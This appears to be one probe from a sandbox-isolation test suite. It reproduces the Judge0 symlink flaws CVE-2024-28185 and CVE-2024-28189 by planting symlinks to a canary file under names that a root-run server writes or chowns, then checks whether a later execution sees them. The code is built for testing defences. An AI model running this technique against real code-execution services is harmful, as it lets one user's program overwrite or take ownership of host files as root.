"""Leave links where the server works next.

Technique: CVE-2024-28185 and CVE-2024-28189 (Judge0): the program puts a link in the place of a file that the server, as root, writes to or changes the
    owner of afterwards, and so chooses which file of the host that is. Here main.py, the working directory's contents and
    temporary names become links.
Success: the next execution sees a link of the former one, or a file of the machine behind it.
Stopped by: workspace, mount_namespace
"""

NAMES = ("main.py", "stdout", "stderr", "output", "result.json", "run.sh", ".bashrc", ".cache", "artifacts")


def leave(message):
    os.unlink("/work/main.py")
    for directory in ("/work", "/tmp", "/dev/shm"):
        for name in NAMES:
            answer(os.symlink, canary["file"], f"{directory}/{name}")
        # Names to be guessed, of temporary files and of artifacts that are collected.
        for number in range(64):
            answer(os.symlink, canary["file"], f"{directory}/tmp{number}")
        with open(f"{directory}/{message}", "w") as file:
            file.write(message)
        answer(os.chmod, directory, 0o777)


def find():
    won = []
    for directory in ("/work", "/tmp", "/dev/shm"):
        with os.scandir(directory) as entries:
            found = [entry.path for entry in entries if entry.is_symlink() or directory != "/work"]
        for path in found:
            answer(os.unlink, path)
        won += found
        if os.path.islink(directory) or os.stat(directory).st_mode & 0o7777 != (0o755 if directory == "/work" else 0o1777):
            won.append(directory)
    if os.path.islink("/work/main.py") or os.listdir("/work") != ["main.py"]:
        won.append(f"/work has {os.listdir('/work')}")
    return won and f"{won}"


def twin():
    """Links among one's own files, also in the place of main.py, which Python has read."""
    os.rename("/work/main.py", "/work/other.py")
    os.symlink("other.py", "/work/main.py")
    with open("/work/main.py") as program:
        assert "def twin" in program.read()
